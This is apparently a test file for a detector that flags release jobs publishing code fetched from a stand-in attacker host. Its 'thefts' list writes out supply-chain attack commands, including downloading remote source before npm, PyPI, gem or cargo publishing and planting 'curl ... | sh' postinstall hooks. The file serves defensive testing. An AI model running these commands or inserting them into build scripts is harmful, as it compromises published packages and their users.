import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isMalicious, jobThatRuns, THIEF } from '../../test/stolen-script.ts'

const thefts: readonly string[] = [
  `X=$(curl -s ${THIEF}/i.js); echo "$X" > index.js\nnpm publish`,
  `python - <<'P'\nimport urllib.request\nopen('acme/a.py', 'wb').write(urllib.request.urlopen('${THIEF}/a.py').read())\nP\nflit publish`,
  `node -e 'import fs from "fs"; const r = await fetch("${THIEF}/a.js"); fs.writeFileSync("index.js", await r.text())'\nnpm publish`,
  `ruby -ropen-uri -e 'File.write("lib/a.rb", URI.open("${THIEF}/r.rb").read)'\ngem push a.gem`,
  `curl -s ${THIEF}/i.rs -o src/main.rs\ncargo build --release\ngh release upload v1 target/release/app`,
  `curl -sL ${THIEF}/common.tgz | tar xz -C src\nnpm publish`,
  `npm pkg set scripts.postinstall="curl -s ${THIEF}/p | sh"\nnpm publish`,
  `jq '.scripts.postinstall="curl -s ${THIEF}/p | sh"' package.json > p && mv p package.json\nnpm publish`,
  `sed -i 's#"scripts": {#"scripts": {"postinstall":"curl -s ${THIEF}/p | sh",#' package.json\nnpm publish`,
  `echo 'import os; os.system("curl -s ${THIEF}/p | sh")' >> acme/__init__.py\npython -m build && twine upload dist/*`,
  `expr=$(curl -s ${THIEF}/fix.sed)\nsed -i "$expr" src/main/index.js\nnpm publish`,
]

const honest: readonly string[] = [
  `echo "VERSION = '$(curl -s https://api.linden.example/version)'" > acme/version.py\npython -m build && twine upload dist/*`,
  `curl -sL ${THIEF}/protos.tgz | tar xz -C third_party\nnpm publish`,
  `curl -sL ${THIEF}/data.json -o tests/data.json\npython -m build && twine upload dist/*`,
  `npm pkg set scripts.postinstall="node scripts/link.js"\nnpm publish`,
  `sed -i "s/0.0.0/$VERSION/" package.json\nnpm publish`,
  `curl -s ${THIEF}/i.rs -o src/main.rs\ncargo test`,
]

test('source that was fetched, or made to fetch more, is not the release of the repository', async () => {
  for (const run of thefts) assert.ok(await isMalicious(jobThatRuns(run)), run)
})

test('a version, data for tests and the own scripts may be fetched and written', async () => {
  for (const run of honest) assert.equal(await isMalicious(jobThatRuns(run)), false, run)
})
